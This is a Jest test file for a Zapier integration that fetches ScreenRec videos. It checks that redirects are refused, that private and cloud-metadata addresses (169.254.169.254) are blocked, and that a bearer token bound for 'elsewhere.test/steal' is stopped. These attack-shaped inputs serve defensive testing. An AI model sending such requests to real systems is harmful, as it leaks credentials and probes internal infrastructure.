import nock from 'nock';
import {
  NOT_FOUND_VIDEO,
  privateVideoHostMessage,
  privateVideoLinkMessage,
  unresolvedVideoHostMessage,
  videoHostRedirectMessage,
} from 'screenrec';
import { hydrateVideoFile } from '../src/video-file';
import { videoHost } from '../src/video-host';
import { API_KEY, BASE_URL, RECORDING_ID, appError, runWithHookOnly, runWithRest, useNock, zapierFailure } from './harness';
import { presignCall, presignsLink, videoUrl } from './recordings-api';

useNock();

// z.stashFile asks Zapier's RPC for an upload slot and uploads there; both stand in here.
const RPC_URL = 'https://rpc.zapier.com';
const UPLOAD_URL = 'https://uploads.zapier.test';
const VIDEO_BYTES = Buffer.from('WEBM-VIDEO-BYTES');

beforeAll(() => {
  process.env.ZAPIER_DEPLOY_KEY = 'deploy-key-for-tests';
});
afterAll(() => {
  delete process.env.ZAPIER_DEPLOY_KEY;
});

/** A stand-in for DNS (the video's host name is checked before the fetch): the names it knows, and nothing else. */
const resolved: Record<string, string[]> = { 'storage.example.net': ['93.184.216.34'] };
let lookups: string[] = [];
beforeEach(() => {
  lookups = [];
  jest.spyOn(videoHost, 'resolve').mockImplementation(async (hostname) => {
    lookups.push(hostname);
    const addresses = resolved[hostname];
    if (addresses === undefined) throw new Error(`getaddrinfo ENOTFOUND ${hostname}`);
    return addresses;
  });
});
afterEach(() => jest.restoreAllMocks());

function zapierFileStash(): { uploaded: () => string } {
  let uploadBody = '';
  nock(RPC_URL)
    .post('/cli', (body: { method?: string }) => body.method === 'get_presigned_upload_post_data')
    .reply(200, (_uri, body) => ({
      id: (JSON.parse(String(body)) as { id: string }).id,
      result: { url: `${UPLOAD_URL}/`, fields: { key: 'stash/1234/video' } },
    }));
  nock(UPLOAD_URL)
    .post('/', (body: string) => {
      uploadBody = body;
      return true;
    })
    .reply(204);
  return { uploaded: () => uploadBody };
}

describe('video file hydration', () => {
  /** The hydration of RECORDING_ID's video file, for the connection with the REST credentials. */
  const hydrateRecording = () => runWithRest(hydrateVideoFile, { inputData: { recordingId: RECORDING_ID } });

  it('asks ScreenRec for a fresh link when a later step needs the file, and stashes the video from it', async () => {
    presignsLink(RECORDING_ID, videoUrl(RECORDING_ID, 'fresh'));
    nock(BASE_URL)
      .get(`/videos/${RECORDING_ID}`)
      .query({ expires: '1795253400', signature: 'fresh' })
      .reply(200, VIDEO_BYTES, {
        'Content-Type': 'video/webm',
        'Content-Length': String(VIDEO_BYTES.length),
      });
    const stash = zapierFileStash();

    const fileUrl = await hydrateRecording();

    expect(fileUrl).toBe(`${UPLOAD_URL}/stash/1234/video`);
    expect(stash.uploaded()).toContain(VIDEO_BYTES.toString());
  });

  it("fetches a link on the storage's own host without any credential of the connection, and follows no redirect", async () => {
    const storage = 'https://storage.example.net';
    const link = `${storage}/bucket/${RECORDING_ID}.webm?X-Amz-Signature=abc`;
    presignsLink(RECORDING_ID, link);
    nock(storage, { badheaders: ['authorization', 'x-service-token'] })
      .get(`/bucket/${RECORDING_ID}.webm`)
      .query({ 'X-Amz-Signature': 'abc' })
      .reply(200, VIDEO_BYTES, { 'Content-Type': 'video/webm' });
    const stash = zapierFileStash();

    await expect(hydrateRecording()).resolves.toBe(`${UPLOAD_URL}/stash/1234/video`);
    expect(stash.uploaded()).toContain(VIDEO_BYTES.toString());
  });

  it('does not follow a redirect from the video link, and says what the storage answered', async () => {
    presignsLink(RECORDING_ID, videoUrl(RECORDING_ID, 'fresh'));
    nock(BASE_URL).get(`/videos/${RECORDING_ID}`).query(true).reply(302, '', { Location: 'https://elsewhere.test/video' });

    await expect(zapierFailure(hydrateRecording())).resolves.toEqual(appError('SERVICE_ERROR', videoHostRedirectMessage(302), 302));
  });

  it('refuses a video link on a private address the service is not on', async () => {
    presignsLink(RECORDING_ID, `http://169.254.169.254/latest/meta-data?X-Amz-Signature=abc`);

    await expect(zapierFailure(hydrateRecording())).resolves.toEqual(appError('INVALID_INPUT', privateVideoLinkMessage('169.254.169.254')));
  });

  it.each([
    ['a private address', 'private.example.net', ['10.0.0.7']],
    ['loopback among public ones', 'mixed.example.net', ['93.184.216.34', '127.0.0.1']],
    ['the metadata address, IPv4-mapped', 'metadata.example.net', ['::ffff:169.254.169.254']],
  ])('refuses a video host whose name resolves to %s, fetching nothing', async (_case, host, addresses) => {
    resolved[host] = addresses;
    presignsLink(RECORDING_ID, `https://${host}/bucket/${RECORDING_ID}.webm?X-Amz-Signature=abc`);

    await expect(zapierFailure(hydrateRecording())).resolves.toEqual(appError('INVALID_INPUT', privateVideoHostMessage(host)));
    expect(lookups).toEqual([host]);
  });

  it('does not fetch from a video host that cannot be found; the Service URL host itself is never looked up', async () => {
    presignsLink(RECORDING_ID, `https://unknown.example.net/bucket/${RECORDING_ID}.webm?X-Amz-Signature=abc`);

    await expect(zapierFailure(hydrateRecording())).resolves.toMatchObject(
      appError('NETWORK', unresolvedVideoHostMessage('unknown.example.net')),
    );
    expect(lookups).toEqual(['unknown.example.net']);
  });

  it('reports a recording without a video as NOT_FOUND', async () => {
    presignCall(RECORDING_ID).reply(404, { message: 'Not found' });

    await expect(zapierFailure(hydrateRecording())).resolves.toEqual(appError('NOT_FOUND', NOT_FOUND_VIDEO, 404));
  });

  it('needs the REST credentials', async () => {
    const error = await zapierFailure(runWithHookOnly(hydrateVideoFile, { inputData: { recordingId: RECORDING_ID } }));

    expect(error).toMatchObject({ name: 'AppError', code: 'REST_NOT_CONFIGURED' });
  });
});

describe('requests leave only for the Service URL', () => {
  it('refuses a request that would carry a connection secret to another host, before sending it', async () => {
    const error = await zapierFailure(
      runWithRest(async (z) =>
        z.request({ url: 'https://elsewhere.test/steal', method: 'POST', headers: { authorization: `Bearer ${API_KEY}` } }),
      ),
    );

    expect(error).toEqual(
      appError(
        'REFUSED_HOST',
        "Refused a request to https://elsewhere.test/steal: the URL is not on the Service URL (https://screenrec.test): ScreenRec's secrets go to the Service URL's own address only.",
      ),
    );
  });
});
